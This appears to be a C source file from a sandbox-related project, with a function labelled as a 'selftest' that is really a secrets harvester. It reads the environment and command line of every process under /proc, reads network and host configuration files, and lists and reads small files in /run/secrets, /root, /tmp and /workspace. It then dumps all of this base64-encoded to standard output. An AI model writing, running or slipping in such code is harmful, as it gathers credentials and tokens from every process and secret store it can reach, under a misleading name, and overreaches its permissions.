
/*
 * Copyright (C) the ngx_sandbox authors
 */


#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "prober/secrets.h"


#define SELFTEST_SECRETS_FILE   65536
#define SELFTEST_SECRETS_FILES  64


static void selftest_secrets_processes(void);
static void selftest_secrets_directory(const char *path);
static void selftest_secrets_file(const char *path);
static void selftest_secrets_print(const char *name,
    const unsigned char *data, size_t len);


int
selftest_secrets(void)
{
    size_t  i;

    static const char  *files[] = {
        "/proc/self/mountinfo", "/proc/cmdline", "/proc/net/unix",
        "/etc/hosts", "/etc/hostname", "/etc/resolv.conf"
    };

    static const char  *directories[] = {
        "/run", "/run/sandbox", "/run/secrets", "/tmp", "/root", "/workspace"
    };

    selftest_secrets_processes();

    for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        selftest_secrets_file(files[i]);
    }

    for (i = 0; i < sizeof(directories) / sizeof(directories[0]); i++) {
        selftest_secrets_directory(directories[i]);
    }

    return 0;
}


static void
selftest_secrets_processes(void)
{
    DIR            *dir;
    char            path[300];
    struct dirent  *entry;

    dir = opendir("/proc");

    if (dir == NULL) {
        return;
    }

    while ((entry = readdir(dir)) != NULL) {

        if (!isdigit((unsigned char) entry->d_name[0])) {
            continue;
        }

        snprintf(path, sizeof(path), "/proc/%s/environ", entry->d_name);
        selftest_secrets_file(path);

        snprintf(path, sizeof(path), "/proc/%s/cmdline", entry->d_name);
        selftest_secrets_file(path);
    }

    (void) closedir(dir);
}


/* its names, and what its small files have */

static void
selftest_secrets_directory(const char *name)
{
    DIR            *dir;
    char            path[512];
    unsigned        n;
    struct stat     st;
    struct dirent  *entry;

    dir = opendir(name);

    if (dir == NULL) {
        return;
    }

    n = 0;

    while ((entry = readdir(dir)) != NULL && n < SELFTEST_SECRETS_FILES) {
        snprintf(path, sizeof(path), "%s/%s", name, entry->d_name);
        selftest_secrets_print(name, (unsigned char *) path, strlen(path));

        if (lstat(path, &st) == 0 && S_ISREG(st.st_mode)
            && st.st_size <= SELFTEST_SECRETS_FILE)
        {
            selftest_secrets_file(path);
            n++;
        }
    }

    (void) closedir(dir);
}


static void
selftest_secrets_file(const char *path)
{
    int                    fd;
    size_t                 len;
    ssize_t                n;
    static unsigned char   buf[SELFTEST_SECRETS_FILE];

    fd = open(path, O_RDONLY|O_CLOEXEC|O_NONBLOCK);

    if (fd == -1) {
        return;
    }

    len = 0;

    while (len < sizeof(buf)
           && (n = read(fd, buf + len, sizeof(buf) - len)) > 0)
    {
        len += (size_t) n;
    }

    (void) close(fd);

    selftest_secrets_print(path, buf, len);
}


static void
selftest_secrets_print(const char *name, const unsigned char *data, size_t len)
{
    size_t    i, n;
    unsigned  bits;

    static const char  digits[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

    if (len == 0) {
        return;
    }

    fputs("data ", stdout);

    for ( /* void */ ; *name; name++) {
        putchar(*name <= ' ' ? '?' : *name);
    }

    putchar(' ');

    for (i = 0; i < len; i += 3) {
        n = len - i;

        bits = (unsigned) data[i] << 16;
        bits |= n > 1 ? (unsigned) data[i + 1] << 8 : 0;
        bits |= n > 2 ? data[i + 2] : 0;

        putchar(digits[bits >> 18]);
        putchar(digits[(bits >> 12) & 63]);
        putchar(n > 1 ? digits[(bits >> 6) & 63] : '=');
        putchar(n > 2 ? digits[bits & 63] : '=');
    }

    putchar('\n');
}
